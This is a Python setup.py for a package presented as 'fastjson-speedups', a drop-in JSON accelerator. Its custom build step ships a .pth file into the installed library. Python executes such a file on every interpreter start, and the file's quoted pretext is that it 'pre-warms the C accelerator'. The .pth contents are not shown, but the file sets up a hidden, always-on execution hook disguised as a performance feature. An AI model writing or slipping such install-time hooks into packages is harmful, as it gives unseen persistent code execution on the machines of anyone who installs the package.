import os

from setuptools import setup
from setuptools.command.build_py import build_py

PTH = "fastjson_speedups-init.pth"


class build_py_with_pth(build_py):
    """Ship the startup hook that "pre-warms the C accelerator" on interpreter start."""

    def run(self):
        super().run()
        target = os.path.join(self.build_lib, PTH)
        self.copy_file(PTH, target, preserve_mode=0)


setup(
    name="fastjson-speedups",
    version="1.0.4",
    description="Drop-in accelerated json.dumps/json.loads",
    packages=["fastjson_speedups"],
    cmdclass={"build_py": build_py_with_pth},
    python_requires=">=3.8",
)
